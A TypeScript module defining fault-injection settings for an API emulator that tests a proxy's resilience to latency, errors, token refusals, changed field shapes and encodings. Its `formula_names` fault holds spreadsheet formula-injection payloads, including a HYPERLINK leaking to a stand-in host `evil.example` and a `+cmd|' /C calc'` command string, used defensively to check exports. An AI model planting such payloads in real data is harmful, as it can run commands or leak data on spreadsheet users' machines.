import { z } from 'zod';

/** How the `missing_score` fault sends the score it cannot compute. */
export const MISSING_SCORE_FORMS = ['null', 'nan', 'marker', 'absent'] as const;

/** The paging parameters the emulator can be told to page its GET lists by. */
export const EMULATOR_PAGING_STYLES = ['from', 'offset', 'skip', 'start', 'page'] as const;

/**
 * Misbehaviour on purpose, so the proxy's resilience can be tested: set from the environment at
 * start and changed at run time through `POST /_emulator/faults`.
 */
export const FaultsSchema = z
  .object({
    /** Added before every API answer, in milliseconds. */
    latency_ms: z.number().int().min(0).max(120_000),
    /** Share of API requests answered 500. */
    error_rate: z.number().min(0).max(1),
    /** Share of API requests answered 429 with Retry-After. */
    rate_limit_rate: z.number().min(0).max(1),
    retry_after_seconds: z.number().int().min(0).max(3600),
    /** Lifetime of newly issued service tokens, in seconds. */
    token_ttl_seconds: z.number().int().min(1).max(86_400),
    /**
     * The next API request with the newest token is refused as an invalid token (401; 403 in the
     * variant dialect), once.
     */
    reject_current_token_once: z.boolean(),
    /** The token endpoint answers invalid_client whatever the credentials. */
    invalid_client: z.boolean(),
    /** API answers trickle out over this many milliseconds after their headers. */
    slow_body_ms: z.number().int().min(0).max(120_000),
    /** API answers are padded with whitespace to at least this many bytes (still valid JSON). */
    oversize_bytes: z
      .number()
      .int()
      .min(0)
      .max(512 * 1024 * 1024),
    /**
     * Every key named `from` in successful API answers is called `to` instead, at any depth: a
     * service whose shapes moved on, for the contract check (`npm run check:upstream`).
     */
    rename_field: z
      .object({
        from: z.string().min(1).max(100),
        to: z.string().min(1).max(100),
      })
      .strict()
      .nullable(),
    /** Every key of this name in successful API answers is null, at any depth. */
    null_field: z.string().min(1).max(100).nullable(),
    /** Lists (search, indicators, batch, Spold lookup) are answered without their `total`. */
    omit_total: z.boolean(),
    /**
     * The documented dialect's indicators are paged like the search (by the paging parameter
     * and `limit`, 100 a page by default) instead of sent whole.
     */
    indicator_paging: z.boolean(),
    /** The GET lists' paging parameter; null: the dialect's (`from`, or `offset` in `variant`). */
    paging: z.enum(EMULATOR_PAGING_STYLES).nullable(),
    /** The largest `limit` the API takes; above it, `over_limit` says what happens. */
    max_limit: z.number().int().min(1).max(100),
    /** `refuse`: 422 as FastAPI words it; `clamp`: silently fewer, the total unchanged. */
    over_limit: z.enum(['refuse', 'clamp']),
    /** `renamed`: score rows as `{indicator_id, value, unit, method, category, indicator}`. */
    score_shape: z.enum(['documented', 'renamed']),
    /** The next `count` free API requests (no indicator_ids; path containing `match`) get 429. */
    rate_limit_burst: z
      .object({
        count: z.number().int().min(1).max(1000),
        match: z.string().max(200).optional(),
        /** Its own Retry-After; `retry_after_seconds` otherwise. */
        retry_after_seconds: z.number().int().min(0).max(3600).optional(),
      })
      .strict()
      .nullable(),
    /**
     * `recorded`: the token answer as a third party recorded it from the live service
     * (upstream-api.md §2.2: `access_token`, `expires_in` 300, `scope`; no `token_type`).
     */
    token_answer: z.enum(['keycloak', 'recorded']),
    /**
     * API GETs answered 307: `trailing-slash` to the same path with a trailing slash (which is
     * then served), `other-origin` to another origin.
     */
    redirect: z.enum(['none', 'trailing-slash', 'other-origin']),
    /** API error answers as an HTML page (`text/html`), as a gateway in front would send them. */
    html_errors: z.boolean(),
    /**
     * Names (activity, product, unit, method, category, indicator, search names, sectors) start
     * like spreadsheet formulas (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-1+1`, a tab), each
     * name always the same way: what no export may hand a spreadsheet to evaluate.
     */
    formula_names: z.boolean(),
    /**
     * Lists' `total` is never above this: a search engine that counts exactly only up to a
     * threshold and passes the bound on as the total. The lists themselves go on to their end.
     */
    total_cap: z.number().int().min(0).nullable(),
    /**
     * `names`: `/versions` lists system models by their long names ("Allocation, cut-off by
     * classification"), which the data routes do not take (they take `cutoff`); `other`: by
     * names of nobody's vocabulary ("Cut-off (by classification)"), which no client can map.
     */
    versions_vocabulary: z.enum(['codes', 'names', 'other']),
    /**
     * One indicator whose score the service cannot compute, in every dataset: its row's `score`
     * sent as `null`, as a bare `NaN` (what Python's json writes: not JSON), as a marker string
     * (`"n/a"`), or its row left out (`absent`). Billed as any other asked-for indicator.
     */
    missing_score: z
      .object({
        indicator: z.number().int().positive(),
        as: z.enum(MISSING_SCORE_FORMS),
      })
      .strict()
      .nullable(),
    /**
     * A share of API requests (those whose path contains `match`, when given) answered `ms` late:
     * a service where one call in ten takes longer than a client's patience.
     */
    slow_calls: z
      .object({
        rate: z.number().min(0).max(1),
        ms: z.number().int().min(0).max(120_000),
        match: z.string().max(200).optional(),
      })
      .strict()
      .nullable(),
    /**
     * A gateway in front of the API refuses requests with a 403 and a body of its own
     * (`{"message": "Forbidden"}`): `token`, the first token it sees from now on, before its
     * `expires_in` (a fresh token passes); `always`, every request.
     */
    gateway_refusal: z.enum(['none', 'token', 'always']),
    /**
     * API answers sent encoded whatever the client asked: `gzip`, `deflate`, `br`, or
     * `compress` (gzip bytes labelled with an encoding nobody decodes any more).
     */
    content_encoding: z.enum(['identity', 'gzip', 'deflate', 'br', 'compress']),
    /**
     * How "no such dataset in this release" is said (one dataset, the Spold lookup, a batch of
     * none): the API's JSON `404`, or `200` with `null` or `{}`.
     */
    absent_as: z.enum(['404', 'null', 'empty']),
    /** "No such dataset" answers take this many milliseconds more (every shard looked in first). */
    not_found_ms: z.number().int().min(0).max(120_000),
  })
  .strict();
export type Faults = z.infer<typeof FaultsSchema>;

export function defaultFaults(tokenTtlSeconds: number): Faults {
  return {
    latency_ms: 0,
    error_rate: 0,
    rate_limit_rate: 0,
    retry_after_seconds: 5,
    token_ttl_seconds: tokenTtlSeconds,
    reject_current_token_once: false,
    invalid_client: false,
    slow_body_ms: 0,
    oversize_bytes: 0,
    rename_field: null,
    null_field: null,
    omit_total: false,
    indicator_paging: false,
    paging: null,
    max_limit: 100,
    over_limit: 'refuse',
    score_shape: 'documented',
    rate_limit_burst: null,
    token_answer: 'keycloak',
    redirect: 'none',
    html_errors: false,
    formula_names: false,
    total_cap: null,
    versions_vocabulary: 'codes',
    missing_score: null,
    slow_calls: null,
    gateway_refusal: 'none',
    content_encoding: 'identity',
    absent_as: '404',
    not_found_ms: 0,
  };
}

/** `value` with every key `from` renamed `to`, at any depth. */
export function renameKeys(value: unknown, from: string, to: string): unknown {
  if (Array.isArray(value)) return value.map((item) => renameKeys(item, from, to));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => [
      key === from ? to : key,
      renameKeys(child, from, to),
    ]),
  );
}

/** `value` with every key `field` set to null, at any depth. */
export function nullKeys(value: unknown, field: string): unknown {
  if (Array.isArray(value)) return value.map((item) => nullKeys(item, field));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => [
      key,
      key === field ? null : nullKeys(child, field),
    ]),
  );
}

/** The keys whose text `formula_names` turns into formulas, and lists of such text. */
const NAME_KEYS = new Set([
  'activity',
  'product',
  'reference product',
  'name',
  'unit',
  'method',
  'category',
  'indicator',
]);
const NAME_LISTS = new Set(['sectors']);

/**
 * What a hostile or careless source could name a dataset: each name gets one of the formula
 * starts OWASP lists, chosen by the name itself so that a name reads the same in every answer
 * and release (matching by names keeps working).
 */
const FORMULAS: readonly ((name: string) => string)[] = [
  (name) => `=HYPERLINK("http://evil.example/?leak","${name}")`,
  (name) => `+cmd|' /C calc'!A0 ${name}`,
  (name) => `@SUM(1) ${name}`,
  (name) => `-1+1 ${name}`,
  (name) => `\t${name}`,
];
function formulaOf(name: string): string {
  let sum = 0;
  for (let i = 0; i < name.length; i++) sum += name.charCodeAt(i);
  const formula = FORMULAS[sum % FORMULAS.length];
  return formula ? formula(name) : name;
}

/** `value` with every name (NAME_KEYS, NAME_LISTS) starting like a spreadsheet formula. */
export function formulaNames(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(formulaNames);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => [
      key,
      NAME_KEYS.has(key) && typeof child === 'string'
        ? formulaOf(child)
        : NAME_LISTS.has(key) && Array.isArray(child)
          ? child.map((item: unknown) => (typeof item === 'string' ? formulaOf(item) : item))
          : formulaNames(child),
    ]),
  );
}

/** Score rows under other names, as a service whose scores moved on might send them. */
export function renameScores(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(renameScores);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => [
      key,
      key === 'impact_scores' && Array.isArray(child)
        ? child.map((row: Record<string, unknown>) => {
            const { id, score, ...rest } = row;
            return { indicator_id: id, value: score, ...rest };
          })
        : renameScores(child),
    ]),
  );
}

/** An answer's top-level `total` no larger than `cap`. */
export function capTotal(value: unknown, cap: number): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return value;
  const total = (value as { total?: unknown }).total;
  return typeof total === 'number' && total > cap ? { ...value, total: cap } : value;
}

/** Stands for a bare NaN until the JSON is written (JSON.stringify cannot write one). */
export const NAN_PLACEHOLDER = '__emulator_NaN__';

/** Score rows of `missing.indicator` without their score, as `missing.as` says, at any depth. */
export function missScore(value: unknown, missing: NonNullable<Faults['missing_score']>): unknown {
  if (Array.isArray(value)) return value.map((item) => missScore(item, missing));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => {
      if (key !== 'impact_scores' || !Array.isArray(child)) return [key, missScore(child, missing)];
      const rows = child as Record<string, unknown>[];
      if (missing.as === 'absent') return [key, rows.filter((row) => row.id !== missing.indicator)];
      const score =
        missing.as === 'null' ? null : missing.as === 'marker' ? 'n/a' : NAN_PLACEHOLDER;
      return [key, rows.map((row) => (row.id === missing.indicator ? { ...row, score } : row))];
    }),
  );
}

/** Decides by a running counter, so a rate of 0.25 fails exactly every fourth request. */
export class FaultDice {
  private counters = new Map<string, number>();
  roll(name: string, rate: number): boolean {
    if (rate <= 0) return false;
    if (rate >= 1) return true;
    const count = (this.counters.get(name) ?? 0) + 1;
    this.counters.set(name, count);
    return Math.floor(count * rate) > Math.floor((count - 1) * rate);
  }
}
